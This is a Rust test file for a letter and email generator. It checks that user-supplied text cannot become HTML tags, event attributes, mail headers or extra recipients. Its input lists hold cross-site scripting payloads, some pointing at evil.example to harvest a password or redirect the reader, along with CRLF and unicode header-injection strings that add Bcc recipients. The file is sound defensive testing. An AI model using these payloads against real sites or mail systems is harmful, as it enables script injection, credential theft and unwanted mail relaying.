//! What others write cannot become a header, an address, a tag or a script.

use i18n::Locale;

use crate::world::{self, Read};

const SCRIPTS: &[&str] = &[
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "'><svg/onload=alert(1)>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</blockquote></main><iframe src=javascript:alert(1)>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
    "{{7*7}}${7*7}<%= 7*7 %>",
    "<math><mtext></p><style><img src onerror=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\u{202e}<script>\u{2066}",
    "\u{ff1c}script\u{ff1e}alert(1)",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "]]><script>alert(1)</script>",
    "<style>@import 'https://evil.example/x.css'</style>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<form action=https://evil.example><input name=password>",
    "<img src=https://evil.example/pixel.gif>",
];

const HEADERS: &[&str] = &[
    "x\r\nBcc: victim@example.com",
    "x\nBcc: victim@example.com",
    "x\rBcc: victim@example.com",
    "x\r\n\r\n<script>alert(1)</script>",
    "x\u{2028}Bcc: victim@example.com",
    "x\u{85}Bcc: victim@example.com",
    "=?utf-8?B?DQpCY2M6IHZpY3RpbUBleGFtcGxlLmNvbQ==?=",
    "a\u{0}b",
    "ana@example.org\" <evil@example.com>",
    "x\r\nContent-Type: text/html\r\n\r\n<script>",
];

/// Tags of the template alone may stand in the HTML: each `<` is followed by one of them.
const TAGS: &[&str] = &[
    "!doctype",
    "html",
    "head",
    "meta",
    "title",
    "style",
    "body",
    "main",
    "h1",
    "p",
    "bdi",
    "blockquote",
    "a",
    "footer",
    "br",
];

fn strange_tags(html: &str) -> Vec<String> {
    let named = |rest: &str| {
        let name: String = rest
            .trim_start_matches('/')
            .chars()
            .take_while(|c| c.is_ascii_alphanumeric() || *c == '!')
            .collect();
        name.to_ascii_lowercase()
    };
    html.match_indices('<')
        .map(|(at, _)| named(&html[at + 1..]))
        .filter(|name| !TAGS.contains(&name.as_str()))
        .collect()
}

#[test]
fn no_text_becomes_a_tag_or_an_attribute() {
    for text in SCRIPTS.iter().chain(HEADERS) {
        for kind in world::kinds(text) {
            let code = kind.code();
            let mut imprint = world::imprint();
            imprint.programme = (*text).to_owned();
            imprint.centre = (*text).to_owned();
            let html = Read::of(&world::letter(Locale::Th, kind), &imprint).html();
            assert_eq!(strange_tags(&html), Vec::<String>::new(), "{code} with {text:?}: {html}");
            assert_eq!(html.matches("<meta").count(), 4, "{code} with {text:?}");
            assert_eq!(html.matches("<style").count(), 1, "{code} with {text:?}");
            let quotes_in_tags = html.split('<').skip(1).filter_map(|tag| tag.split('>').next());
            let attributes = quotes_in_tags.filter(|tag| tag.to_ascii_lowercase().contains(" on"));
            assert_eq!(attributes.count(), 0, "{code} with {text:?}");
        }
    }
}

#[test]
fn no_text_becomes_a_header_or_a_recipient() {
    let names = |headers: Vec<String>| -> Vec<String> {
        let mut names: Vec<String> =
            headers.iter().filter_map(|line| line.split_once(':')).map(|(name, _)| name.to_owned()).collect();
        names.sort();
        names
    };
    let plain: Vec<_> = world::kinds("Ana")
        .into_iter()
        .map(|kind| names(Read::of(&world::letter(Locale::En, kind), &world::imprint()).headers()))
        .collect();
    for text in HEADERS.iter().chain(SCRIPTS) {
        for (kind, plain) in world::kinds(text).into_iter().zip(&plain) {
            let code = kind.code();
            let mut imprint = world::imprint();
            imprint.programme = (*text).to_owned();
            let letter = world::letter(Locale::En, kind);
            let written = Read::of(&letter, &imprint);
            assert_eq!(&names(written.headers()), plain, "{code} with {text:?}");
            let message = written.message();
            let all: Vec<_> = [message.to(), message.from()]
                .into_iter()
                .flatten()
                .flat_map(|list| {
                    list.iter().map(|one| one.address().unwrap_or_default().to_owned()).collect::<Vec<_>>()
                })
                .collect();
            assert_eq!(all, ["ana@example.org", "post@transfer.example.org"], "{code} with {text:?}");
            assert!(message.bcc().is_none() && message.cc().is_none(), "{code} with {text:?}");
            let envelope = mail::write(&letter, &imprint).unwrap().envelope().clone();
            assert_eq!(envelope.to().len(), 1, "{code} with {text:?}");
            let subject = message.subject().unwrap_or_default();
            assert!(!subject.contains(['\r', '\n', '\u{202e}', '\u{2066}']), "{code}: {subject:?}");
        }
    }
}
